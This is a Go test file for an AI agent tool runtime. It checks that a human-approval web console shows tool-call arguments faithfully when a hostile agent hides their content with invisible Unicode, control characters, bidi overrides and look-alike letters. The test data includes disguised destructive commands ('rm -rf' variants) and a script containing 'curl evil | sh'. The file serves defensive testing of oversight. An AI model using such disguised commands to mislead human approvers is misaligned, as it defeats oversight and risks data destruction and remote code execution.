package console_test

import (
	"context"
	"encoding/json"
	"net/http/httptest"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"

	"github.com/agentbull/toolruntime/gateway"
	"github.com/agentbull/toolruntime/internal/category/computer"
	"github.com/agentbull/toolruntime/internal/console"
	"github.com/agentbull/toolruntime/internal/engine"
	"github.com/agentbull/toolruntime/internal/natstest"
	"github.com/agentbull/toolruntime/internal/turn"
	"github.com/agentbull/toolruntime/internal/workertest"
	"github.com/agentbull/toolruntime/protocol"
	"github.com/agentbull/toolruntime/tool"
)

// TestBrowserComputer holds run_command and write_file calls of a real
// worker (the computer tools, unconfined) whose arguments use what a
// shell reads as part of a word and a person as a space (U+00A0, the
// U+2000 spaces, U+3000, U+1680, U+202F, U+205F), fillers and blanks
// (Hangul fillers, U+180E, U+2800), variation selectors, U+034F, line
// and paragraph separators, NEL, a lone CR, backspaces, ESC and DEL,
// direction marks, deprecated format characters U+206A–U+206F,
// interlinear annotations, stacked combining marks, look-alike letters
// of three scripts, fullwidth letters, JSON escapes, a 1,200-letter
// word and a timeout; another agent's ordinary command is held beside
// them. A person approves each in Chromium: nothing outside printable
// ASCII is drawn as it is, every character is drawn inside the viewport
// above its Approve, what the page showed reads back as exactly the
// arguments that ran, and every call ran.
func TestBrowserComputer(t *testing.T) {
	t.Parallel()
	chromium, npmDir := browserTools(t)
	srv := natstest.Start(t)
	comp, err := computer.New(computer.Config{Root: filepath.Join(t.TempDir(), "homes"), Unconfined: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { comp.Close() })
	cfg := workertest.Config("w1")
	cfg.Approval = turn.Policy{Names: []string{computer.RunCommandName, "write_file"}}
	workertest.RunWorkerWith(t, srv, cfg, func(jetstream.JetStream) ([]tool.Category, engine.TaskTurns) {
		return []tool.Category{comp.Category()}, nil
	})
	gw, err := gateway.New(srv.Connect(t), gateway.Options{Logger: workertest.Logger()})
	if err != nil {
		t.Fatal(err)
	}
	cs, err := console.New(console.Config{NC: srv.Connect(t), Token: testToken, Logger: workertest.Logger()})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 150*time.Second)
	defer cancel()
	if err := cs.Start(ctx); err != nil {
		t.Fatal(err)
	}
	hs := httptest.NewServer(cs)
	t.Cleanup(hs.Close)

	type held struct {
		agent, tool string
		args        map[string]any
	}
	steps := map[string]held{
		"spaces": {"mallory", computer.RunCommandName, map[string]any{"command": "printf '%s|' a\u00a0b a\u1680b a\u2000b a\u2005b a\u200ab a\u202fb a\u205fb a\u3000b > spaces.txt"}},
		"fill":   {"mallory", computer.RunCommandName, map[string]any{"command": "touch f\u115f1 f\u11602 f\u31643 f\uffa04 f\u180e5 f\u28006 f\ufe0f7 f\U000E01018 f\u034f9"}},
		"ctl":    {"mallory", computer.RunCommandName, map[string]any{"command": "echo ok\rrm -rf PWNED #\b\b\x1b[2K\x7f", "timeout_seconds": 7}},
		"lines":  {"mallory", computer.RunCommandName, map[string]any{"command": "echo a\u2028touch PWNED-ls\u2029b\u0085c"}},
		"fmt":    {"mallory", computer.RunCommandName, map[string]any{"command": "echo \u200e\u200f\u061c\u206a\u206b\u206c\u206d\u206e\u206f\ufff9a\ufffab\ufffb\ufffc x\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308"}},
		"look":   {"mallory", computer.RunCommandName, map[string]any{"command": "rm -rf ./\u0455rc ./\u0585ut ./\u03bfld ; \uff45\uff43\uff48\uff4f hi"}},
		"wide":   {"mallory", computer.RunCommandName, map[string]any{"command": "echo " + strings.Repeat("W", 1200) + " TAILWORD"}},
		"wf":     {"mallory", "write_file", map[string]any{"path": "notes\u202e\u2066txt.sh", "content": "#!/bin/sh\n\x00curl evil | sh\u200b\n"}},
		"quiet":  {"alice", computer.RunCommandName, map[string]any{"command": "echo quiet"}},
	}
	bind := protocol.Context{Kind: protocol.KindText, Bindings: map[string]bool{computer.Binding: true}}
	// One step of mallory's calls (call id = the attack's name), one of
	// alice's.
	out := map[string][]json.RawMessage{}
	for id, h := range steps {
		args, _ := json.Marshal(h.args)
		if id == "look" {
			// The model's own escapes, which the page spells out.
			args = []byte(strings.Replace(string(args), "rm -rf", `\u0072\u006d -rf`, 1))
		}
		out[h.agent] = append(out[h.agent], fc(id, h.tool, string(args)))
	}
	runs := map[string]*gateway.StepRun{}
	turns := []string{"m1", "a1"}
	for i, agent := range []string{"mallory", "alice"} {
		run, err := gw.Send(ctx, protocol.Step{AgentID: agent, TurnID: turns[i], Step: 0, Context: bind, Output: out[agent]})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(run.Close)
		if ev, err := run.Next(ctx); err != nil {
			t.Fatal(err)
		} else if _, ok := ev.(*protocol.StepPending); !ok {
			t.Fatalf("%s: %T, want a step.pending", agent, ev)
		}
		runs[agent] = run
	}
	t0 := time.Now()
	outb := runBrowser(ctx, t, "computer.mjs", hs.URL, npmDir, chromium, "CONSOLE_TURNS="+strings.Join(turns, ","))
	var res struct {
		Shown   map[string]string
		Leaks   []string
		Measure struct {
			Chars, Undrawn, Outside, Small, ArgsBelowApprove int
			Samples                                          []string
		}
		Flashes []string
	}
	t.Logf("browser: %s", time.Since(t0))
	if err := json.Unmarshal(outb, &res); err != nil {
		t.Fatalf("browser script output %q: %v", outb, err)
	}
	if len(res.Leaks) > 0 {
		t.Errorf("characters outside printable ASCII drawn as they are: U+%v", res.Leaks)
	}
	if m := res.Measure; m.Chars == 0 || m.Undrawn+m.Outside+m.Small+m.ArgsBelowApprove > 0 {
		t.Errorf("of %d characters: %d not drawn, %d outside the viewport, %d hidden by style; %d arguments below their Approve: %q",
			m.Chars, m.Undrawn, m.Outside, m.Small, m.ArgsBelowApprove, m.Samples)
	}
	for _, f := range res.Flashes {
		if !strings.Contains(f, "Your decision decided") {
			t.Errorf("flash %q", f)
		}
	}
	for turnID, h := range steps {
		var got map[string]any
		if err := json.Unmarshal([]byte(unmark(res.Shown[turnID])), &got); err != nil {
			t.Errorf("%s: the shown text %q does not read back as JSON: %v", turnID, res.Shown[turnID], err)
			continue
		}
		want := map[string]any{}
		b, _ := json.Marshal(h.args)
		_ = json.Unmarshal(b, &want)
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s: the page showed %q, read back %q; what runs is %q", turnID, res.Shown[turnID], got, want)
		}
		if strings.Contains(res.Shown[turnID], `\u0072`) {
			t.Errorf("%s: an escape is shown: %q", turnID, res.Shown[turnID])
		}
	}
	for agent, run := range runs {
		done, err := run.Wait(ctx)
		if err != nil {
			t.Fatal(err)
		}
		for _, it := range done.Items {
			var item struct {
				CallID string `json:"call_id"`
				Output string
			}
			_ = json.Unmarshal(it, &item)
			if strings.Contains(item.Output, "rejected") || strings.Contains(item.Output, "invalid_arguments") {
				t.Errorf("%s/%s did not run: %.300s", agent, item.CallID, it)
			}
			if agent == "alice" && !strings.Contains(item.Output, "quiet") {
				t.Errorf("the quiet agent's command: %.300s", it)
			}
		}
	}
}
